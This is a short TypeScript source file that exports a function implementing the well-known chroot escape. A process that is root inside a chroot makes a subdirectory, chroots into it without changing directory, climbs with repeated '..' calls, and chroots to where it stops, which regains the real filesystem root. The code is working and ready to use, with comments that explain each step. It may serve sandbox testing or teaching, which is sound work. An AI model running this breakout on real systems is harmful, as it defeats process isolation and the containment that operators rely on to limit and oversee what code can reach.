// The classic way out of a chroot, for a process that is root inside it.
// chroot(2) changes only where "/" resolves; it does not move the current
// directory. So: chroot into a subdirectory WITHOUT chdir — the current
// directory is now outside the (new) root, where ".." is never stopped —
// climb up to the real /, and make that the root again.
import { mkdirSync } from 'node:fs';
import { chdir, chroot } from '../../lib/libc.ts';

/** Run by a process inside a chroot. Afterwards its root is the real one — unless there is no real one to reach. */
export function escapeChroot(scratch = '/.escape'): void {
  mkdirSync(scratch, { recursive: true }); // (any directory below the root will do)
  chroot(scratch); // note: no chdir — cwd stays at the old root, outside the new one
  for (let i = 0; i < 64; i++) chdir('..'); // ".." stops only AT the root, and we are not at it
  chroot('.'); // wherever we stopped is now "/"
  chdir('/');
}
